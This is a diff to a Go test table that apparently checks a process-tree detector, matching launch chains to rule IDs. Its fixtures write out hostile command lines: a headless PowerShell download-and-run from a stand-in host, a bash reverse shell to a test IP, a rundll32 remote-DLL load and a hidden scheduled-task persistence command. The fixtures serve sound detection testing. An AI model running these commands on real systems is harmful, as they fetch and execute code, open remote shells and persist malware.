@@ -62,6 +62,10 @@ func TestLaunchTrees(t *testing.T) {
 			>|C:\Windows\System32\rundll32.exe|\\call.invalid@SSL\DavWWWRoot\cam.dll,Fix`, "MG-PROC-LOLBIN"},
 		{"library of the company's server", "windows", `|C:\Windows\System32\services.exe|
 			>|C:\Windows\System32\regsvr32.exe|/s \\fileserver\tools\acme.dll`, ""},
+		{"behind a console without a window", "windows", `|C:\Windows\explorer.exe|
+			>|C:\Windows\System32\conhost.exe|--headless powershell -c "irm https://call.invalid/a | iex"`, "MG-PROC-RUN-BOX"},
+		{"ssh through a jump host", "windows", `|C:\Windows\explorer.exe|
+			>|C:\Windows\System32\OpenSSH\ssh.exe|-o ProxyCommand="ssh -W %h:%p jump.example.com" build.example.com`, ""},
 		{"reverse shell", "linux", `|/usr/libexec/gnome-terminal-server|
 			>|/usr/bin/bash|
 			>>|/usr/bin/bash|-c "bash -i >& /dev/tcp/192.0.2.21/443 0>&1"`, "MG-PROC-INLINE"},
@@ -106,6 +110,9 @@ func TestLaunchTrees(t *testing.T) {
 		{"script host, then a stranger", "windows", `|C:\Windows\explorer.exe|
 			>|C:\Windows\System32\mshta.exe|?
 			>>|` + home + `\AppData\Local\Temp\0c7bd551.exe|`, "MG-PROC-DROPPED"},
+		{"library unknown, then a stranger", "windows", `|C:\Windows\explorer.exe|
+			>|C:\Windows\System32\rundll32.exe|?
+			>>|` + home + `\AppData\Local\CallCache\svc.exe|`, "MG-PROC-DROPPED"},
 		{"task out of sight", "windows", `|C:\Windows\explorer.exe|
 			>|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|?
 			>>|C:\Windows\System32\schtasks.exe|/create /tn Update /tr "powershell -w h -f ` + home + `\AppData\Roaming\z.ps1" /sc minute /f`, "MG-PROC-HIDDEN-TASK"},
